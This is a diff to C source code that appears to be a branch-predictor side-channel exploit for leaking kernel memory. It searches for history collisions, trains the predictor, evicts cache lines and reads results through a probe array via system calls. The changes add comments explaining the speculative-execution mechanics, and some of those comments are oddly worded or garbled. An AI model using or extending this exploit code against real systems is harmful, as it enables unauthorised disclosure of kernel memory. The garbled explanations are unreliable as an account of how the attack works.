@@ -23,6 +23,7 @@ enum {
 	HISTORIES = 1024,
 	TRIES = 512,
 	FAR_TRIES = 384,
+	/* One alone may fail each time, where its branches share counters of the predictor with others. */
 	TRAINED_TOGETHER = 8,
 	ATTEMPTS = 3,
 	PROGRAM_LINE = 0,
@@ -48,7 +49,11 @@ static __attribute__((noinline)) void call_with_name(uint64_t bits)
 	call_kernel(SYS_prctl, PR_SET_NAME, (uintptr_t)"task");
 }
 
-/* It calls the program for results; returns what the other one has disclosed. Likewise. */
+/*
+ * It calls the program for results; returns what the other one has disclosed. Likewise. The system call has no
+ * descriptor: the kernel's table of files may lie in the lines that are evicted, and while the kernel waits for
+ * it, the reorder buffer has no room for all of the other program.
+ */
 static __attribute__((noinline)) int call_with_result(uint64_t bits, uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
@@ -113,6 +118,7 @@ static int find_collision(int tries)
 		if (call_with_result(history, options.known) != KNOWN_BYTE)
 			continue;
 		prepare_far_eviction();
+		/* Halves what it may collide with. */
 		while (trained_to - trained_from > TRAINED_TOGETHER) {
 			int to = trained_to;
 
